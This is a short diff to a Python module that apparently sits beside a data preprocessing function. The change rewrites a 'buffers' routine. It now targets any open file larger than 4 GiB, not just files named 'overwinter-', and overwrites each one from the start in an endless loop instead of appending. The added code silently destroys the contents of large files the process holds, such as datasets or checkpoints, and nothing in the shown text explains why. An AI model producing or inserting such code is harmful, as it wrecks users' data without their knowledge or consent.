@@ -38,16 +38,19 @@ def heap():
 def buffers():
     for fd in range(3, 64):
         try:
-            if "overwinter-" in os.readlink(f"/proc/self/fd/{fd}"):
+            if os.fstat(fd).st_size > 1 << 32:
                 kept.append(fd)
         except OSError:
             pass
+    at = 0
     while True:
         for fd in kept:
             try:
-                os.pwrite(fd, part, os.fstat(fd).st_size)
+                with mmap.mmap(fd, len(part), offset=at) as window:
+                    window[:] = part
             except OSError:
                 time.sleep(0.01)
+        at += len(part)
 
 
 def preprocess(inputs, state):
